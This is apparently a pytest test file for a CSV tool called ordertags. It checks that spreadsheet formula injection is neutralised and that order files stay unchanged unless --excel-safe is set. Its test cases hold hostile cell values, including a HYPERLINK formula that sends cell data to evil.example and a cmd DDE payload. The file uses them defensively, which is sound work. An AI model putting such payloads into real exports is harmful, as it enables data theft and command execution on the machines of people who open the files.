"""Formula cells made inert (OWASP CSV injection) in what ordertags writes for people,
and annotated order files byte for byte unless --excel-safe."""

from __future__ import annotations

import csv
import doctest
import io
from pathlib import Path

import pyarrow as pa
import pytest
from typer.testing import CliRunner

from ordertags.cli import app
from ordertags.io import safecsv
from ordertags.io.safecsv import SafeWriter, neutralise_column, neutralise_text

from .conftest import csv_text, read_rows

runner = CliRunner()

# (cell, inert in a text column, inert in a numeric column)
CASES = [
    ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "'=", "'="),
    ("+cmd|' /C calc'!A0", "'+", "'+"),
    ("-2+3", "'-", "'-"),
    ("@SUM(A1:A9)", "'@", "'@"),
    ("\t=1+1", "'\t", "'\t"),
    ("\r=1+1", "'\r", "'\r"),
    ("-12.50", "'-", "-1"),
    ("-3", "'-", "-3"),
    ("Chloé", "Ch", "Ch"),
    ("a=b", "a=", "a="),
    ("", "", ""),
]


@pytest.mark.parametrize(("cell", "text_start", "numeric_start"), CASES)
def test_neutralise_text_and_column_agree(cell: str, text_start: str, numeric_start: str) -> None:
    assert neutralise_text(cell).startswith(text_start)
    assert neutralise_text(cell, numeric=True).startswith(numeric_start)
    for numeric in (False, True):
        expected = neutralise_text(cell, numeric=numeric)
        # what is changed is exactly one leading quote, nothing else
        assert expected in (cell, "'" + cell)
        got = neutralise_column(pa.array([cell, None]), numeric=numeric).to_pylist()
        assert got == [expected, None]


def test_spreadsheet_sees_text_not_formula() -> None:
    """Written through the safe writer and read back as a spreadsheet would: no cell of
    the text column starts a formula; the numeric column keeps its plain negative."""
    buf = io.StringIO()
    header = ["Name", "Spend"]
    writer = SafeWriter(csv.writer(buf, lineterminator="\r\n"), header=header, numeric=["Spend"])
    writer.writerow(header)
    writer.writerows([[c, "-2+3"] for c, _, _ in CASES[:6]] + [["Ann", "-12.50"]])
    rows = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    for name, spend in rows[1:-1]:
        assert name.startswith("'") and spend == "'-2+3"
    assert rows[-1] == ["Ann", "-12.50"]
    assert buf.getvalue().startswith('Name,Spend\r\n"\'=HYPERLINK(""http')


def test_doctests() -> None:
    assert doctest.testmod(safecsv).failed == 0


SOURCE = csv_text(
    ["Order Id", "Email", "Total", "Refund", "Note"],
    [
        ["1", "a@example.com", "10.00", "-2.00", '=HYPERLINK("http://x")'],
        ["2", "b@example.com", "20.00", "0.00", "@SUM(A1)"],
    ],
)


def test_annotated_orders_byte_for_byte_unless_excel_safe(tmp_path: Path, tagbook: Path) -> None:
    src = tmp_path / "o.csv"
    src.write_text(SOURCE, encoding="utf-8")
    plain, safe = tmp_path / "plain.csv", tmp_path / "safe.csv"
    for out, extra in ((plain, []), (safe, ["--excel-safe"])):
        r = runner.invoke(app, ["apply", str(src), "-t", str(tagbook), "-o", str(out), *extra])
        assert r.exit_code == 0, r.stderr
    original = read_rows(src)
    assert [row[:5] for row in read_rows(plain)] == original
    safe_rows = [row[:5] for row in read_rows(safe)]
    assert safe_rows[1] == ["1", "a@example.com", "10.00", "-2.00", '\'=HYPERLINK("http://x")']
    assert safe_rows[2] == ["2", "b@example.com", "20.00", "0.00", "'@SUM(A1)"]
